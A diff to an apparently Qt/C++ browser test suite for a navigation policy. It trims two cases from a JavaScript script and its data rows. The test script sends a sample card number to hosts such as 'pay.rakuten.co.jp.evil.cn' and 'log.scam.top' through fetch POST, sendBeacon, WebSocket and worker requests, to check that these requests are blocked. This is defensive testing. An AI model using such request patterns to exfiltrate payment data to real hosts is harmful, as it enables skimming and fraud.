@@ -60,11 +60,9 @@ constexpr auto requestingScript = R"(const U = '%1', done = () => document.title
 const card = '4111111111111111', add = (tag, props) => document.head.append(
   Object.assign(document.createElement(tag), props, {onload: done, onerror: done}));
 ({image: () => add('img', {src: U}), script: () => add('script', {src: U}),
-  style: () => add('link', {rel: 'stylesheet', href: U}),
   prefetch: () => add('link', {rel: 'prefetch', href: U}),
   post: () => fetch(U, {method: 'POST', mode: 'no-cors', body: card}).then(done, done),
   beacon: () => (navigator.sendBeacon(U, card), fetch('/after').then(done, done)),
-  xhr: () => { const x = new XMLHttpRequest(); x.onloadend = done; x.open('GET', U); x.send(); },
   socket: () => Object.assign(new WebSocket(U.replace('http', 'ws')), {onclose: done}),
   worker: () => new Worker('/worker.js#' + U).onmessage = done, save: () => {}})['%2']();)";
 constexpr auto workerScript = "fetch(location.hash.slice(1), {method: 'POST', mode: 'no-cors',"
@@ -692,11 +690,9 @@ void TestNavigationPolicy::pagesAskNothingOfSuspiciousHosts_data()
     QTest::newRow("save") << false << u"save.scam.top"_s << false;
     QTest::newRow("image") << false << u"img.amaz0n-co-jp.com"_s << false;
     QTest::newRow("script") << false << u"js.scam.top"_s << false;
-    QTest::newRow("style") << false << u"css.scam.top"_s << false;
     QTest::newRow("prefetch") << false << u"next.scam.top"_s << false;
     QTest::newRow("post") << false << u"pay.rakuten.co.jp.evil.cn"_s << false;
     QTest::newRow("beacon") << false << u"log.scam.top"_s << false;
-    QTest::newRow("xhr") << false << u"xhr.rakuten.co.jp.evil.cn"_s << false;
     QTest::newRow("socket") << false << u"ws.scam.top"_s << false;
     QTest::newRow("worker") << false << u"worker.scam.top"_s << false;
     QTest::newRow("image of a neutral host") << false << u"cdn.example.net"_s << true;
